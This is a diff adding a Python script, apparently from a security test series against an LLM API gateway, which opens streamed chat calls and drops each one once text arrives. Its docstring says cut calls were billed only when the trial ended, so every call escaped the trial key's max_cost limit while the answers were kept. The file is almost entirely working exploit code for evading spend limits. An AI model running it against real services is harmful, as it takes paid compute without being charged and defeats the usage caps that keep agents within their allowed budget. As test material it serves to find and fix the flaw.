@@ -1,0 +1,40 @@
+"""Attack pass round 14: spend past a trial key's ``max_cost`` by calls cut on purpose.
+
+Run as ``python3 round14_cut_streams.py BASE_URL KEY N``: N streamed chat calls one after the
+other, each dropped (the connection closed) as soon as the answer's text has come, before the
+stream's end. A cut call's cost was counted only when the trial ended (``Gateway.end``), never
+against the key's ``max_cost`` while the trial ran: every such call passed the limit, and the
+agent kept the answers. Prints one line per call: its HTTP status and the text it received.
+"""
+
+import http.client
+import json
+import sys
+import urllib.parse
+
+
+def cut_call(base: str, key: str) -> tuple[int, str]:
+    url = urllib.parse.urlparse(base)
+    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
+    body = {"model": "any", "stream": True,
+            "messages": [{"role": "user", "content": "Tell me everything about sandboxes. " * 20}]}
+    conn.request("POST", "/v1/chat/completions", json.dumps(body),
+                 {"Authorization": f"Bearer {key}", "Content-Type": "application/json"})
+    r = conn.getresponse()
+    text = ""
+    if r.status == 200:
+        while line := r.fp.readline():
+            if line.startswith(b"data:") and b"[DONE]" not in line:
+                for choice in json.loads(line[5:]).get("choices") or []:
+                    text += (choice.get("delta") or {}).get("content") or ""
+                if text:
+                    break  # the answer came: go before the stream ends (the call is cut)
+    conn.sock.shutdown(2)
+    conn.close()
+    return r.status, text
+
+
+if __name__ == "__main__":
+    for _ in range(int(sys.argv[3])):
+        status, text = cut_call(sys.argv[1], sys.argv[2])
+        print(status, json.dumps(text[:40]), flush=True)
